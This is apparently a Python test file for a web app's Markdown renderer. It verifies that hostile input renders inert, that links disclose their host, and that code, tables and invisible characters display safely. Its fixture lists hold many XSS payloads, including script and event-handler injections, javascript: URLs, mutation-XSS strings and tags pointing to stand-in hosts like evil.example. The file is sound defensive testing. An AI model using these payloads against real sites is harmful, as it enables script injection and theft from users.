"""Rendering: what Markdown becomes, and what hostile Markdown cannot do."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import html as lxml_html
from lxml.html import HtmlElement

from fusion.web.document import LiveDocument
from fusion.web.markdown import render_blocks
from tests.web.markdown_samples import documents

TAG_NAMES = """
p h3 h4 h5 h6 hr br blockquote ul ol li strong em s code pre a span bdi div button table thead tbody tr th td main
"""
TAGS = set(TAG_NAMES.split())
ATTRIBUTES = {"href", "rel", "class", "start", "type", "data-copy-code", "tabindex", "role", "aria-label"}

HANDLERS = ["onclick", "onerror", "onload", "onmouseover", "onfocus", "onanimationstart", "ontoggle", "onpointerenter"]
HX = [
    "hx-get",
    "hx-post",
    "hx-on:click",
    "hx-trigger",
    "hx-swap-oob",
    "hx-vals",
    "data-hx-get",
    "data-hx-on--load",
    "ws-connect",
]
URLS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "&#106;avascript:alert(1)",
    "javascript&colon;alert(1)",
    "\x01javascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "file:///etc/passwd",
    "//evil.example/x",
    "/r/delete?all=1",
    "?stop=1",
    "#main",
    "https:evil",
    "http://",
    "ws://evil.example",
    "blob:https://x/1",
    "mailto:",
    "https://[::1",
]
RAW = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>*{background:url(//evil)}</style>",
    "<p style='position:fixed'>x</p>",
    "<link rel=stylesheet href=//evil>",
    "<meta http-equiv=refresh content='0;url=//evil'>",
    "<base href=//evil>",
    "<form action=//evil><button>x</button></form>",
    "<object data=//evil></object><embed src=//evil>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<textarea><img src=x onerror=alert(1)>",
    "<title><img src=x onerror=alert(1)></title>",
    "</div></main><body onload=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<div id=a-B-md hx-swap-oob=true>gone</div>",
    "<video><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>",
]
WRAPPED = [
    "![x](https://evil.example/p.png?secret=1)",
    "![x](javascript:alert(1))",
    '![x](https://e.org/a "onerror=alert(1)")',
    '![" onerror="alert(1)](https://e.org)',
    '[x](https://e.org "title\\" onclick=alert(1)")',
    '[x](https://e.org/"onmouseover="alert(1))',
    "[x](<https://e.org/ onclick=alert(1)>)",
    "<https://e.org/\"onclick='alert(1)>",
    "<javascript:alert(1)>",
    "[a <javascript:alert(1)> b](https://e.org)",
    "[![x](javascript:alert(1))](javascript:alert(1))",
    "[x]: javascript:alert(1)\n\n[x]",
    '```"><script>alert(1)</script>\nx\n```',
    "```python\" onclick=\"alert(1)\n'</code></pre><script>alert(1)</script>'\n```",
    "`<script>alert(1)</script>`",
    "    </code></pre><script>alert(1)</script>",
    "| <script>alert(1)</script> | [x](javascript:alert(1)) |\n|---|:-:|\n| <img src=x onerror=alert(1)> | y |",
    "# <img src=x onerror=alert(1)>",
    "> <iframe src=//evil>",
    "- <svg onload=alert(1)>\n- <b hx-get=/x hx-trigger=load>x</b>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    '<pre><code data-lang="<img src=x onerror=alert(1)>">',
    '~~~<table>"\n<table></table>\n~~~',
]
HOSTILE = [
    *RAW,
    *WRAPPED,
    *(f"[click]({url})" for url in URLS),
    *(f"<b {name}='alert(1)'>x</b>" for name in HANDLERS + HX),
]


def dom(html: str) -> HtmlElement:
    return lxml_html.fragment_fromstring(html, create_parent="main")


def assert_inert(html: str) -> None:
    for element in dom(html).iter():
        assert element.tag in TAGS, element.tag
        assert set(element.attrib) <= ATTRIBUTES, element.attrib
        if element.tag == "a" and "href" in element.attrib:
            assert re.match(r"(?:https?://[^/]|mailto:)", element.attrib["href"])
            assert element.attrib["rel"] == "noopener noreferrer nofollow"
        assert ("type" in element.attrib) == (element.tag == "button")


def render(text: str) -> str:
    return "".join(render_blocks(text))


def test_the_hostile_corpus_is_large_enough_to_mean_something() -> None:
    assert len(set(HOSTILE)) >= 80


@pytest.mark.parametrize("payload", HOSTILE)
def test_hostile_markdown_is_inert_finished_and_while_it_streams(payload: str) -> None:
    for text in (
        payload,
        f"para {payload} para",
        f"- item {payload}\n- next",
        f"**{payload}",
        f"| a |\n|---|\n| {payload} |\n",
    ):
        assert_inert(render(text))
        document = LiveDocument("a-B")
        for character in text:
            document.feed(character)
            document.tick()
            assert_inert(re.sub(r' id="a-B-[a-z0-9]+"', "", document.snapshot()))


@settings(max_examples=150, deadline=None)
@given(st.one_of(documents, st.text(max_size=200), st.text(alphabet="<>\"'&`*_[]()!|-#\n \\:/ax=", max_size=120)))
def test_any_text_becomes_inert_blocks_of_one_element_each(text: str) -> None:
    for block in render_blocks(text):
        assert_inert(block)
        root = dom(block)
        assert len(root) == 1
        assert not root.text
        assert not root[0].tail


@pytest.mark.parametrize(
    ("source", "html"),
    [
        ("a **b** ~~c~~", "<p>a <strong>b</strong> <s>c</s></p>"),
        ("# One", "<h3>One</h3>"),
        ("###### Six", "<h6>Six</h6>"),
        ("3. x\n4. y", '<ol start="3"><li>x</li><li>y</li></ol>'),
        ("- a\n\n- b", "<ul><li><p>a</p></li><li><p>b</p></li></ul>"),
        ("a  \nb\r\nc", "<p>a<br>\nb\nc</p>"),
        ("<b>x</b>", "<p>&lt;b&gt;x&lt;/b&gt;</p>"),
        ("[x](javascript:alert(1))", "<p>x</p>"),
        (
            "![a chart](https://img.example/c.png)",
            '<p><span class="image">a chart <bdi class="host">(img.example)</bdi></span></p>',
        ),
        ("![d](data:image/png;base64,AAAA)", '<p><span class="image">d</span></p>'),
    ],
)
def test_markdown_becomes_plain_html(source: str, html: str) -> None:
    assert render_blocks(source) == [html]


@pytest.mark.parametrize(
    ("source", "host"),
    [
        ("[docs](https://example.org/a)", "example.org"),
        ("[https://bank.example](https://evil.example/)", "evil.example"),
        ("[bank.example.evil.example](https://evil.example/)", "evil.example"),
        ("<https://bank.example@evil.example/>", "evil.example"),
        ("[a](https://bank.example@evil.example:8080/)", "evil.example:8080"),
        ("[аpple.com](https://аpple.com)", "xn--pple-43d.com"),
        ("[write](mailto:a@example.org)", "a@example.org"),
    ],
)
def test_a_link_names_its_host_when_its_text_does_not(source: str, host: str) -> None:
    assert f'</a> <bdi class="host">({host})</bdi>' in render(source)


@pytest.mark.parametrize(
    "source", ["<https://example.org/a?b=1>", "[example.org](https://example.org/x)", "<a@example.org>"]
)
def test_a_link_whose_text_tells_its_host_has_no_note(source: str) -> None:
    assert 'class="host"' not in render(source)


def test_code_is_framed_labelled_and_coloured() -> None:
    (html,) = render_blocks("```python title=x\nif x < 1:\n    pass\n```")
    root = dom(html)
    assert root.xpath("string(.//*[@class='code-lang'])") == "python"
    assert root.xpath("string(.//pre/code)") == "if x < 1:\n    pass\n"
    assert root.xpath("count(.//button[@data-copy-code])") == 1
    assert '<span class="k">if</span>' in html


@pytest.mark.parametrize("language", ["nolang", "", "brainfuck"])
def test_code_in_an_unknown_language_is_plain(language: str) -> None:
    assert "<code>x &lt; 1\n</code>" in render(f"```{language}\nx < 1\n```")


def test_code_keeps_every_character_when_coloured() -> None:
    code = "\n\n\tx = '  '  \n\n\n"
    assert dom(render(f"```python\n{code}```")).xpath("string(.//code)") == code


def test_very_long_code_is_left_uncoloured() -> None:
    assert '<span class="' not in render("```python\n" + "x = 1\n" * 5000 + "```").partition("<pre")[2]


def test_tables_scroll_in_a_region_and_keep_their_alignment() -> None:
    (html,) = render_blocks("| a | b |\n|:-:|--:|\n| 1 | 2 |")
    assert html.startswith('<div class="table" tabindex="0" role="region" aria-label="Table"><table>')
    assert '<td class="align-right">2</td>' in html
    assert "style" not in html


@pytest.mark.parametrize("hidden", ["\u202e", "\u2066", "\u200b", "\ufeff", "\U000e0041", "&#x202e;", "&#8203;"])
def test_invisible_and_reordering_characters_are_spelled_out(hidden: str) -> None:
    for source in (f"a{hidden}b", f"`a{hidden}b`", f"```python\na{hidden}b\n```", f"[a{hidden}b](https://example.org)"):
        text = dom(render(source)).text_content()
        assert not re.search("[\u202a-\u202e\u2066-\u2069\u200b\ufeff\U000e0000-\U000e007f]", text)
        assert "⟦U+" in text or "&#" in text


def test_joined_emoji_and_flags_stay_whole() -> None:
    family, england = "👩\u200d👩\u200d👧", "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f"
    assert render(f"{family} {england}") == f"<p>{family} {england}</p>"


def test_control_characters_and_half_surrogates_cannot_break_rendering() -> None:
    assert render("a\x00b\ud800c\x1bd") == "<p>a\ufffdb\ufffdc\ufffdd</p>"


@pytest.mark.parametrize(
    "text", ["> " * 5000 + "x", "[" * 50_000, "- " * 5000 + "x", "*a _b " * 20_000, "`a``" * 20_000]
)
def test_deep_or_endless_markup_is_rendered_all_the_same(text: str) -> None:
    assert len(render_blocks(text)) == 1


def test_every_class_of_coloured_code_is_known_to_the_style_sheet_and_no_colour_is_fixed() -> None:
    css = (Path(__file__).parents[2] / "static/css/highlight.css").read_text()
    rules = css.partition("@layer components")[2]
    assert not re.search(r"#[0-9a-fA-F]{3,8}\b|rgb\(", rules)
    html = render("```python\n# c\n@d\nclass A(B):\n    def f(self): return 'x' + 1.5 if True else None\n```")
    for name in set(re.findall(r'<span class="(\w+)">', html.partition("<pre")[2])):
        assert re.search(rf"\.{name}\b", rules), name
